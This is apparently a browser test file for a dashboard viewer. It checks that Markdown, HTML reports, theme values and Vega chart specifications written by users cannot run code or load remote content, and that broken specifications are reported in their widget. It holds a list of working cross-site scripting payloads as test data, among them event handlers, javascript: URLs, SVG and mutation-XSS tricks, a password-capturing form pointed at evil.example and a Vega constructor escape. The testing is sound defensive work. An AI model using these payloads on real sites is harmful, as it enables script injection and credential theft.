import { describe, expect, test } from 'vitest'
import { ATTACKS, BY_EVENT } from '../../packages/pictures/test/viewer/attacks.ts'
import { isLong } from '../support/long.ts'
import { allDrawn, boxOf, inPage, sceneWith, serveScenes, textOf, useBrowser, widget } from './support.ts'

const { open, show } = useBrowser()

/** Attributes that act, and styles that came as text: those that were set one by one are in the style object too. */
const FORBIDDEN = `all => all.flatMap(each => [...each.querySelectorAll('*')]).flatMap(element => element.getAttributeNames()
  .filter(name => /^on|^style$|srcset|srcdoc/.test(name) && !(name === 'style' && element.style.length > 0)))`
const FINE = widget('fine', 'TEXT', [0, 30, 12, 1], { config: { markdown: 'still **here**' } })
const chart = (id: string, place: readonly [number, number, number, number], report?: string) =>
  widget(id, 'CHART', place, report === undefined ? {} : { report })

describe('content that people write cannot run code', () => {
  const BAD = [
    '<script>window.hit = 1; alert(1)</script>',
    '<img src=x onerror="window.hit = 2">',
    '<img src="https://evil.example/pixel.png" srcset="https://evil.example/2x.png 2x" alt="logo">',
    '<a href="javascript:window.hit=3">click</a> <a href="jAvAsCrIpT&#58;window.hit=3">again</a> <a href="data:text/html,<script>window.hit=3</script>">data</a>',
    '<a href="ftp://evil.example/">files</a> <a href="/rows/fine">own server</a> <a href="//evil.example/">short</a> <a href="HTTPS://fine.example/">fine</a>',
    '<style>* { display: none !important }</style>',
    '<p style="position:fixed;inset:0;background:url(https://evil.example/bg.png);color:rgb(200,0,0)" title=">">styled</p>',
    `<p title='>' style='color:red' onclick=window.hit=4>sharp</p>`,
    '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.hit=5</script>"></iframe>',
    '<object data="https://evil.example/x.svg"></object><embed src="https://evil.example/x.swf">',
    '<svg onload="window.hit=6"><script>window.hit=6</script><use href="https://evil.example/a.svg#b"/><animate attributeName="href" values="javascript:window.hit=6"/><a xlink:href="javascript:window.hit=6"><text>svg</text></a></svg>',
    '<svg width="100000000" height="100000000"><rect width="100%" height="100%" fill="red"/></svg>',
    '<form action="https://evil.example/"><input name="password" autofocus onfocus="window.hit=7"><button>send</button></form>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=8&gt;">',
    '<div id="scene">clobber</div><a name="boardwright">x</a><p data-widget="fine">fake</p>',
  ].join('\n\n')

  test('in Markdown and in HTML reports', async () => {
    const { page, troubles } = await show(
      sceneWith(
        [
          widget('md', 'TEXT', [0, 0, 6, 12], { config: { markdown: BAD } }),
          { ...chart('html', [6, 0, 6, 12], 'html') },
          FINE,
        ],
        {
          html: {
            name: 'Html',
            kind: 'html',
            spec: `<p>{{#each rows}}<b>{{name}}</b>{{/each}}</p>${BAD}`,
            sql: `select '<img src=x onerror=window.hit=9>' as name`,
          },
        },
      ),
    )
    await page.getByRole('link', { name: 'click' }).or(page.getByText('click')).first().click({ trial: true })

    expect(await page.evaluate('window.hit')).toBeUndefined()
    const inside = page.locator('.bw-prose')
    for (const tag of [
      'script',
      'style',
      'iframe',
      'object',
      'embed',
      'form',
      'input',
      'base',
      'meta',
      'link',
      'use',
      'animate',
    ]) {
      await expect.poll(() => inside.locator(tag).count(), { message: tag }).toBe(0)
    }
    expect(await inside.evaluateAll(inPage<string[]>(FORBIDDEN))).toEqual([])
    await expect.poll(() => inside.locator('[href^="java" i], [href^="data:"], [src^="http"]').count()).toBe(0)
    const links = inside.locator('[href], [*|href]')
    expect([
      ...new Set(await links.evaluateAll(inPage<string[]>(`all => all.map(each => each.getAttribute('href'))`))),
    ]).toEqual(['HTTPS://fine.example/'])
    const styled = page.getByText('styled', { exact: true }).first()
    expect(
      await styled.evaluate(
        inPage(
          `element => (({ position, backgroundImage, color }) => [position, backgroundImage, color])(getComputedStyle(element))`,
        ),
      ),
    ).toEqual(['static', 'none', 'rgb(200, 0, 0)'])
    const svg = await page.locator('.bw-prose svg').last().boundingBox()
    expect(svg?.width ?? 0).toBeLessThan(1500)
    await expect.poll(() => textOf(page, 'html')).toContain('<img src=x onerror=window.hit=9>')
    expect(
      (await page.getByText('Image not loaded: logo').count()) +
        (await page.getByAltText('Image not loaded: logo').count()),
    ).toBeGreaterThan(0)
    await expect.poll(() => page.getByText('still here').isVisible()).toBe(true)
    expect(troubles).toEqual([])
  })

  test('in names, titles, themes and styles', async () => {
    const name = '<script>alert("Tom was here")</script>\u202egnp.exe'
    const { page, troubles } = await show({
      title: name,
      dashboard: {
        title: name,
        theme: {
          primaryColor: 'url(https://evil.example/c)',
          fontFamily: 'x; } body { display: none',
          dashboard: { backgroundColor: 'red;}', padding: '9999999px' },
          widgets: { border: { color: 'expression(alert(1))' } },
        },
        widgets: [
          widget(name, 'TEXT', [0, 0, 12, 2], {
            config: { title: name, markdown: 'x' },
            style: { backgroundColor: 'url(https://evil.example)' },
          }),
          FINE,
        ],
      },
      reports: {},
    })
    await expect
      .poll(() => page.getByRole('heading', { level: 2 }).first().textContent())
      .toBe(name.replace('\u202e', '\\u202e'))
    await expect.poll(() => page.locator('script:not([src]):not([type="application/json"])').count()).toBe(0)
    await expect.poll(() => page.getByText('still here').isVisible()).toBe(true)
    expect(troubles).toEqual([])
  })

  test('in charts: nothing is loaded, and no code runs', async () => {
    const lite = (data: object, more: object = {}) => ({
      $schema: 'https://vega.github.io/schema/vega-lite/v5.json',
      data,
      mark: 'bar',
      encoding: { x: { field: 'a', type: 'nominal' } },
      ...more,
    })
    const { page, troubles } = await show(
      sceneWith(
        [
          chart('far', [0, 0, 4, 5], 'far'),
          chart('image', [4, 0, 4, 5], 'image'),
          chart('code', [8, 0, 4, 5], 'code'),
          FINE,
        ],
        {
          far: { name: 'Far', kind: 'vega', spec: lite({ url: 'https://evil.example/rows.json' }) },
          image: {
            name: 'Image',
            kind: 'vega',
            spec: lite(
              { values: [{ a: 1 }] },
              {
                mark: { type: 'image', width: 50, height: 50 },
                encoding: { url: { value: 'https://evil.example/x.png' }, href: { value: 'javascript:window.hit=1' } },
              },
            ),
          },
          code: {
            name: 'Code',
            kind: 'vega',
            spec: lite(
              { values: [{ a: 1 }] },
              { transform: [{ calculate: "constructor.constructor('window.hit=1')()", as: 'b' }] },
            ),
          },
        },
      ),
    )
    await expect
      .poll(() => textOf(page, 'far'))
      .toContain('It wants to load https://evil.example/rows.json, and nothing is loaded here.')
    await expect.poll(() => textOf(page, 'code')).toMatch(/cannot be drawn|does not compile/)
    expect(await page.evaluate('window.hit')).toBeUndefined()
    await expect.poll(() => page.getByText('still here').isVisible()).toBe(true)
    expect(troubles).toEqual([])
  })

  test('in charts that turn to the page or to what makes code of a text', async () => {
    const attacks = [...ATTACKS.map(([, spec]) => spec), BY_EVENT].map((spec): object =>
      JSON.parse(JSON.stringify(spec).replaceAll('$CODE', 'globalThis.hit = 1')),
    )
    const reports = Object.fromEntries(
      attacks.map((spec, index) => [`r${index}`, { name: `R${index}`, kind: 'vega', spec }]),
    )
    const widgets = attacks.map((_, index) =>
      chart(`w${index}`, [(index % 4) * 3, Math.floor(index / 4) * 4, 3, 4], `r${index}`),
    )
    const { page, troubles } = await show(sceneWith([...widgets, FINE], reports))
    await expect.poll(() => page.getByText('still here').isVisible()).toBe(true)
    const last = page.locator(`[data-widget="w${attacks.length - 1}"] .bw-vega`)
    await expect.poll(() => last.locator('.mark-rect path').count()).toBe(1)
    await last.hover()
    await last.hover({ position: { x: 30, y: 30 } })
    await page.evaluate('new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))')
    expect(await page.evaluate('window.hit')).toBeUndefined()
    expect(troubles).toEqual([])
  })
})

describe('bad input is reported in its widget, and the rest of the page works', () => {
  test('specifications, reports and types that cannot be drawn', async () => {
    const { page, troubles } = await show(
      sceneWith(
        [
          ...[
            'missing',
            'report/content/a/reports/b.yaml',
            'nokind',
            'broken',
            'nojson',
            'compile',
            'circle',
            'nowhere',
            'nohtml',
            'endless',
            'ticks',
            'words',
            'curve',
          ].map((id, index) => chart(id, [(index % 4) * 3, Math.floor(index / 4) * 4, 3, 4], id)),
          { ...widget('odd', 'HOLOGRAM', [0, 12, 3, 3]) },
          FINE,
        ],
        {
          nokind: { name: 'N', kind: 'hologram' },
          broken: {
            name: 'B',
            kind: 'vega',
            spec: {
              $schema: 'https://vega.github.io/schema/vega/v5.json',
              marks: [{ type: 'nonsense', from: { data: 'nowhere' } }],
            },
            sql: 'select 1 as a',
          },
          nojson: { name: 'J', kind: 'vega', spec: '{ not json', sql: 'select 1 as a' },
          compile: {
            name: 'C',
            kind: 'vega',
            spec: { mark: 'no-such-mark', encoding: 42 },
            sql: 'select city, sum(x) as x from y',
          },
          circle: {
            name: 'S',
            kind: 'sankey',
            spec: {},
            sql: 'select city as source, city as target, sum(x) as value from y',
          },
          nowhere: { name: 'M', kind: 'map', spec: {} },
          endless: { name: 'E', kind: 'vega', spec: { data: { sequence: { start: 0, stop: 1e12 } }, mark: 'point' } },
          ticks: {
            name: 'T',
            kind: 'vega',
            sql: 'select sum(x) as x from y',
            spec: { mark: 'point', encoding: { x: { field: 'x', type: 'quantitative', axis: { tickCount: 1e9 } } } },
          },
          words: {
            name: 'W',
            kind: 'vega',
            spec: {
              $schema: 'https://vega.github.io/schema/vega/v5.json',
              signals: [{ name: 'all', update: 'length(sequence(0, 1e9))' }],
              data: [{ name: 'own', values: [{ a: 1 }] }],
              marks: [{ type: 'symbol', from: { data: 'own' } }],
            },
          },
          curve: {
            name: 'D',
            kind: 'vega',
            sql: 'select city, sum(x) as x from y',
            spec: { transform: [{ density: 'x', steps: '1000000000' }], mark: 'area' },
          },
          nohtml: { name: 'H', kind: 'html', spec: { a: 1 } },
        },
      ),
    )
    const said = async (id: string) => page.locator(`[data-widget="${id}"]`).getByRole('alert').innerText()
    await expect.poll(() => said('missing')).toBe('The report “missing” is not there.')
    await expect.poll(() => said('report/content/a/reports/b.yaml')).toBe('content/a/reports/b.yaml cannot be read.')
    await expect.poll(() => said('nokind')).toBe('This viewer does not know reports of the kind “hologram”.')
    await expect.poll(() => said('broken')).toMatch(/cannot be drawn|does not compile/)
    await expect.poll(() => said('nojson')).toBe('The specification of this chart is not JSON.')
    await expect.poll(() => said('compile')).toBe('`mark` is “no-such-mark”, which is not known.')
    await expect.poll(() => said('circle')).toBe('These flows lead in a circle: a Sankey diagram cannot show them.')
    await expect.poll(() => said('nowhere')).toBe('This map names no `latitude` and `longitude`.')
    await expect.poll(() => said('endless')).toBe('It counts out more than 100,000 rows.')
    for (const id of ['ticks', 'words', 'curve'])
      await expect.poll(() => said(id), { message: id }).toContain('more than 100,000 rows')
    await expect.poll(() => said('nohtml')).toBe('This HTML report has no text.')
    await expect.poll(() => said('odd')).toBe('This viewer does not know widgets of the type “HOLOGRAM”.')
    await expect.poll(() => page.getByText('still here').isVisible()).toBe(true)
    expect(troubles).toEqual([])
  })

  test('containers in a cycle, missing parents, widgets over each other and off the grid', async () => {
    const inside = (id: string, type: string, parentId: string, y: number) =>
      widget(id, type, [0, y, 12, 3], { config: { parentId, markdown: id } })
    const { page, troubles } = await show(
      sceneWith([
        inside('a', 'CONTAINER', 'b', 0),
        inside('b', 'CONTAINER', 'a', 3),
        inside('self', 'PARENT', 'self', 6),
        inside('lost', 'TEXT', 'nobody', 9),
        inside('inText', 'TEXT', 'fine', 12),
        widget('over', 'TEXT', [0, 15, 6, 2], { config: { markdown: 'over' } }),
        widget('under', 'TEXT', [3, 15, 6, 2], { config: { markdown: 'under' } }),
        widget('off', 'TEXT', [40, 1_000_000_000, 900, 3], { config: { markdown: 'off' } }),
        widget('negative', 'TEXT', [-5, -5, 0, -1], { config: { markdown: 'negative' } }),
        FINE,
      ]),
    )
    await expect.poll(() => textOf(page, 'a')).toContain('It sits in itself, by way of its containers.')
    await expect.poll(() => textOf(page, 'self')).toContain('It sits in itself')
    await expect.poll(() => textOf(page, 'lost')).toContain('It sits in “nobody”, which is not on this dashboard.')
    await expect.poll(() => textOf(page, 'inText')).toContain('It sits in “fine”, which holds nothing.')
    const [over, under] = [await boxOf(page, 'over'), await boxOf(page, 'under')]
    expect(over.y).toBe(under.y)
    expect(under.x).toBeLessThan(over.x + over.width)
    const [off, board] = [await boxOf(page, 'off'), await page.locator('.bw-grid').boundingBox()]
    expect(off.x + off.width).toBeLessThanOrEqual((board?.x ?? 0) + (board?.width ?? 0))
    expect(board?.height ?? 0).toBeLessThan(5_000)
    await expect.poll(() => page.locator('[data-note="Its place is outside the grid."]').count()).toBe(2)
    expect(troubles).toEqual([])
  })

  test('10,000 rows in a table, a chart and a map', async () => {
    const rows = Array.from({ length: 10_000 }, (_, index) => ({
      id: index,
      city: `City ${index}`,
      lat: 46 + (index % 100) / 50,
      lon: 6 + Math.floor(index / 100) / 25,
      value: (index * 7919) % 1000,
    }))
    const many = await serveScenes(
      {
        many: sceneWith(
          [
            chart('table', [0, 0, 6, 8], 'table'),
            chart('points', [6, 0, 6, 8], 'points'),
            chart('map', [0, 8, 6, 8], 'map'),
            FINE,
          ],
          {
            table: { name: 'Table', kind: 'table' },
            points: {
              name: 'Points',
              kind: 'vega',
              spec: {
                mark: 'point',
                encoding: { x: { field: 'id', type: 'quantitative' }, y: { field: 'value', type: 'quantitative' } },
              },
            },
            map: { name: 'Map', kind: 'map', spec: { latitude: 'lat', longitude: 'lon', size: 'value' } },
          },
        ),
      },
      { rows: async () => ({ rows }) },
    )
    try {
      const { page, troubles } = await open(`${many.url}/#/many`)
      await allDrawn(page, 'many')
      await expect.poll(() => textOf(page, 'table')).toMatch(/ 1–\d+ of 10,000/)
      await page.getByRole('button', { name: 'Table: later rows' }).click()
      await expect.poll(() => textOf(page, 'table')).toMatch(/ (?!1–)\d+–\d+ of 10,000/)
      await page.getByRole('button', { name: 'Value' }).click()
      await expect
        .poll(() => page.getByRole('columnheader', { name: 'Value' }).getAttribute('aria-sort'))
        .toBe('descending')
      await expect.poll(() => page.getByRole('img', { name: 'Points: points of 10000 rows' }).count()).toBe(1)
      await expect.poll(() => page.locator('.bw-map-point').count()).toBe(1_000)
      await expect.poll(() => page.getByText('still here').isVisible()).toBe(true)
      expect(troubles).toEqual([])
    } finally {
      await many.close()
    }
  })

  test('200 widgets', async () => {
    const charts = isLong ? 40 : 10
    const widgets = Array.from({ length: 200 }, (_, index) =>
      index % (200 / charts) === 0
        ? chart(`w${index}`, [(index % 6) * 2, Math.floor(index / 6) * 3, 2, 3], 'bars')
        : widget(`w${index}`, 'TEXT', [(index % 6) * 2, Math.floor(index / 6) * 3, 2, 3], {
            config: { markdown: `Text ${index}` },
          }),
    )
    const { page, troubles } = await show(
      sceneWith(widgets, {
        bars: {
          name: 'Bars',
          kind: 'vega',
          sql: 'select city, sum(amount) as amount from x',
          spec: {
            mark: 'bar',
            encoding: { x: { field: 'city', type: 'nominal' }, y: { field: 'amount', type: 'quantitative' } },
          },
        },
      }),
    )
    await expect.poll(() => page.locator('.bw-widget').count()).toBe(200)
    await expect.poll(() => page.locator('.bw-vega svg').count()).toBe(charts)
    expect(troubles).toEqual([])
  })
})
